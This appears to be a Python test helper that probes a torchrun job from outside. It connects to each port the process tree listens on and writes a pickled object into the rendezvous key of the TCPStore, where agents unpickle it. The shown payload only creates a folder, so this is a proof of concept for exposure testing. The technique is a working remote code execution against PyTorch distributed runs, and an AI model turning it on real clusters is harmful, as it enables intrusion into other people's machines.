"""What anybody on the network could do to a run under torchrun: write a pickled command into its rendezvous.

torchrun's agents keep their state pickled under `torch.rendezvous.ID` in a store that listens on all interfaces, and
unpickle what stands there every few seconds (torch/distributed/elastic/rendezvous/c10d_rendezvous_backend.py). The id
is no secret: it is `none` by default, and here it is read from the processes, as somebody who had guessed it.
"""

from __future__ import annotations

import base64
import os
import pickle
import socket
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import psutil

from tests.sockets import listeners


class Bomb:
    """Unpickled, it makes a folder."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.folder),)


def outside_addresses() -> list[str]:
    """The IPv4 addresses by which other machines reach this one."""
    found = [each for held in psutil.net_if_addrs().values() for each in held if each.family == socket.AF_INET]
    return [each.address for each in found if not each.address.startswith("127.")]


def attack(pid: int, folder: Path) -> list[tuple[str, int]]:
    """Connect from outside to every port that a process or a descendant of it listens at, and write the bomb that would
    make `folder` wherever a store answers. Returns the (address, port) that took a connection.
    """
    from torch.distributed import TCPStore  # type: ignore[attr-defined]  # documented; torch's stubs do not export it

    ids = {"none", *_ids(pid)}
    bomb = base64.b64encode(pickle.dumps(Bomb(folder), protocol=0)).decode()
    reached = []
    for address in outside_addresses():
        for port in sorted({each.port for each in listeners(pid)}):
            with suppress(OSError), socket.create_connection((address, port), timeout=2):
                reached.append((address, port))
                with suppress(Exception):  # of a port that is no store
                    store = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=5))
                    for run in ids:
                        store.set(f"torch.rendezvous.{run}", bomb)
    return reached


def _ids(pid: int) -> set[str]:
    """The rendezvous ids that the processes were given."""
    found = set()
    for process in psutil.Process(pid).children(recursive=True):
        with suppress(psutil.Error):
            found.add(process.environ().get("TORCHELASTIC_RUN_ID", "none"))
    return found
